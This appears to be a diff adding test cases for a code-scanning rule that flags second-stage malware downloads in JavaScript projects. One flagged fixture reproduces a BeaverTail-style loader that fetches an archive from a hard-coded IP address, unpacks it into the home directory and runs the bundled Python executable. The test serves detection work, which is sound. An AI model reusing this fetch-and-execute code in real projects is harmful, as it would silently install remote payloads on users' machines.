@@ -1,0 +1,40 @@
+import { ruleTest } from '../../testing/rule-tester.js';
+import rule from './second-stage-download.js';
+
+ruleTest(rule, {
+  clean: [
+    {
+      name: 'webpack zip of the build output',
+      file: 'scripts/pack.js',
+      code: `const fs = require('fs');\nfs.writeFileSync('dist/app.zip', buf);\n`,
+    },
+    {
+      name: 'download without execution (asset fetch)',
+      file: 'scripts/fonts.js',
+      code: `const fs = require('fs');\nfetch('https://fonts.example.org/inter.woff2').then((r) => r.arrayBuffer()).then((b) => fs.writeFileSync('public/inter.woff2', Buffer.from(b)));\n`,
+    },
+  ],
+  flagged: [
+    {
+      name: 'esbuild-style binary install and version check (low)',
+      file: 'install.js',
+      code: `const fs = require('fs'), child_process = require('child_process'), https = require('https');
+https.get('https://registry.npmjs.org/@esbuild/linux-x64/-/linux-x64-0.20.0.tgz', (res) => res.pipe(fs.createWriteStream(binPath)));
+child_process.execFileSync(binPath, ['--version']);
+`,
+      findings: [{ line: 3, severity: 'low', confidence: 'low' }],
+    },
+    {
+      name: 'BeaverTail pdown → ~/.pyp/python.exe',
+      file: 'lib/stage.js',
+      code: `const { exec } = require('child_process'), fs = require('fs'), os = require('os'), request = require('request');
+const base = 'http://86.104.74.51:1244';
+request.get(base + '/pdown', (e, r, body) => {
+  fs.writeFileSync(os.tmpdir() + '/p.zip', body);
+  exec('tar -xf ' + os.tmpdir() + '/p.zip -C ' + os.homedir(), () => exec(os.homedir() + '/.pyp/python.exe ' + os.homedir() + '/.npl'));
+});
+`,
+      findings: [{ line: 3, severity: 'critical', confidence: 'high', message: /\/pdown route, p\.zip \/ p2\.zip archive, ~\/\.pyp portable Python/ }],
+    },
+  ],
+});
